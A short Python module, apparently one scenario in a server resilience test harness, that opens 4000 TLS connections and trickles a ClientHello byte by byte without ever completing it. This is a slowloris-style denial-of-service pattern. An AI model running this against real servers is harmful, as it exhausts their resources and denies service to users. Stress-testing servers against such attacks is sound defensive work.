"""Connections that send a ClientHello byte by byte, and never its end."""

from attack import Attack, client_hello, still_open
from server_configurations import TLS

ATTACK = Attack(short=("10Mi", "32Mi"))
CONNECTIONS = 4000


async def run(target):
    hello = client_hello()
    opened = await target.many(CONNECTIONS, lambda _: target.connect(TLS))
    await target.one_after_another(opened, hello[:200], 0.0005)
    at = 200
    while target.left() > 0 and at < len(hello) - 1:
        await target.one_after_another(opened, hello[at:at + 1], 0.0005)
        at += 1
    await target.wait()
    return f"{len(opened)} connections, {still_open(opened)} stayed"
